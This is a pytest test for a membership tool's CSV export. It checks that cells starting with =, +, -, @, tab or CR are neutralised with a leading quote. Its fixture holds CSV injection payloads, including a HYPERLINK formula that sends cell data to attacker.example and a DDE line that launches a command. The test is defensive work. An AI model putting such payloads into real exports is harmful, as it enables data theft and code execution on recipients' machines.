"""Lists as CSV for a spreadsheet: what a member typed never runs as a formula on the organiser's
machine (OWASP's CSV injection rule: a quote before any cell starting =, +, -, @, tab or CR)."""

from __future__ import annotations

import csv

from conftest import MEMBER_HEADER

FORMULAS = {
    "first_name": '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "last_name": "+cmd|' /C calc'!A0",
    "role": "@SUM(1+1)",
    "town": "-2+3",
}


def test_members_letters_and_replies_as_csv_open_with_formulas_neutralised(cli, write_csv, tmp_path):
    row = (
        f'M900001,"{FORMULAS["first_name"].replace(chr(34), chr(34) * 2)}",{FORMULAS["last_name"]},'
        f"eve@members.example.org,SW1A 1AA,100001,1 Road,{FORMULAS['town']},{FORMULAS['role']},Branch,Region"
    )
    members = write_csv("members.csv", f"{MEMBER_HEADER}\n{row}\nM900002,Sam,Reid,sam@members.example.org,"
                        "SW1A 1AA,100002,2 Road,Town,Teacher,Branch,Region\n")  # fmt: skip
    assert cli("members", "import", str(members)).exit_code == 0
    done = cli("members", "list", "--csv")
    assert done.exit_code == 0
    path = tmp_path / "members-export.csv"
    path.write_text(done.output, encoding="utf-8")
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [r["membership_no"] for r in rows] == ["M900001", "M900002"]
    eve = rows[0]
    for field, value in FORMULAS.items():
        assert eve[field] == "'" + value, field
    assert eve["email"] == "eve@members.example.org"  # ordinary cells untouched
    assert rows[1]["first_name"] == "Sam"
    # No cell of the file starts a formula.
    with path.open(newline="", encoding="utf-8") as f:
        assert not [c for line in csv.reader(f) for c in line if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for command in (("letters", "list", "--csv"), ("replies", "list", "--csv")):
        listed = cli(*command)
        assert listed.exit_code == 0, listed.output
        header = next(csv.reader([listed.output.splitlines()[0]]))
        assert header[0] in ("reference", "id")
